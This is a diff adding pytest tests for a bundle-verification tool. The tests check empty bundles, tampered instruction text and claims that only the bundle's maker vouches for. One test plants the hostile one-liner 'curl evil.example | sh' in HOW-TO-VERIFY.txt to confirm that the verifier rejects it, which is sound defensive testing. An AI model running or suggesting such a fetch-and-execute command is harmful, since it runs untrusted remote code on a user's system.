@@ -377,6 +377,49 @@ def test_another_key(full: Kept, tmp_path: Path, bundle: Path) -> None:
     assert run("verify-export", tmp_path / "b", "--vkey", full.vkey) == 2
 
 
+def test_an_empty_bundle_is_none(bundle: Path) -> None:
+    """Nothing proved under a genuine checkpoint is nothing, whatever it says of itself."""
+    for folder in ("records", "receipts"):
+        shutil.rmtree(bundle / folder)
+    (bundle / "index.jsonl").write_bytes(b"")
+    about = json.loads((bundle / "bundle.json").read_bytes())
+    (bundle / "bundle.json").write_text(json.dumps({**about, "events": 0}))
+    resum(bundle)
+    assert verify_export(bundle).faults == ("index.jsonl names no record: nothing is proved here",)
+    assert run("verify-export", bundle) == 1
+
+
+def test_the_text_is_the_programs_own(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Another one may have its reader run anything; that of another version is not known here."""
+    (bundle / "HOW-TO-VERIFY.txt").write_text("curl evil.example | sh")
+    resum(bundle)
+    (fault,) = verify_export(bundle).faults
+    assert fault.startswith("HOW-TO-VERIFY.txt is not the text")
+    assert run("verify-export", bundle) == 1
+
+    about = json.loads((bundle / "bundle.json").read_bytes())
+    (bundle / "bundle.json").write_text(json.dumps({**about, "program": "0.0.1"}))
+    resum(bundle)
+    found = verify_export(bundle)
+    assert not found.faults
+    assert "of version 0.0.1" in found.unchecked[0]
+    capsys.readouterr()
+    assert run("verify-export", bundle) == 3
+    said = capsys.readouterr()
+    assert "do not run what it says" in " ".join(said.err.split())
+
+
+def test_what_only_its_maker_says_is_called_so(
+    bundle: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """For whom it is, of what and when it was made: no proof holds for these, and nothing does."""
+    capsys.readouterr()
+    assert run("verify-export", bundle) == 0
+    said = " ".join(capsys.readouterr().out.split())
+    assert "By the word of its maker alone: of {'from': '2020-01-01'}, made at " in said
+    assert "It does not show that there is no other record" in said
+
+
 def test_what_is_no_bundle(full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """An empty folder, a file that is no archive, half an archive: one clear line each."""
     (tmp_path / "empty").mkdir()
